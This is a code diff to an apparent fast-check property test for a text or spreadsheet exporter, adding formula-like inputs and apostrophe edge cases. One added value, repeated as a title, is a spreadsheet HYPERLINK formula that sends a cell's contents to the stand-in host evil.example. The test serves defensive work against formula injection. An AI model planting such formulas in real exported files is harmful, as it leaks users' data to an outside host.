@@ -31,10 +31,32 @@ const word = fc.constantFrom(
   '[guide](https://example.com/g?a=1&b=2)',
   '<https://example.com/auto>',
   '{:target="_blank"}',
+  // What a spreadsheet would run as a formula, and an apostrophe that must survive.
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  '+1',
+  '-5%',
+  '@home',
+  "'90s",
+  "'=1+1",
 );
 const words = fc.array(word, { minLength: 1, maxLength: 6 }).map((w) => w.join(' '));
 // What a line may start with, on top of words: list markers, headings, escapes.
-const lead = fc.constantFrom('', '', '', '- ', '# ', '* ', '+ ', '\\', '1. ', '2) ', '\\3. ');
+const lead = fc.constantFrom(
+  '',
+  '',
+  '',
+  '- ',
+  '# ',
+  '* ',
+  '+ ',
+  '\\',
+  '1. ',
+  '2) ',
+  '\\3. ',
+  '=',
+  '@',
+  '-',
+);
 const line = fc.tuple(lead, words).map(([l, w]) => `${l}${w}`);
 const prose = fc
   .array(line, { minLength: 1, maxLength: 3 })
@@ -91,6 +113,8 @@ const title = fc.constantFrom(
   'Lead, "Platform"',
   'Manager | Ops',
   'Café & Co',
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "'90s Engineer",
 );
 
 /** A ladder of 1 to 6 levels. */
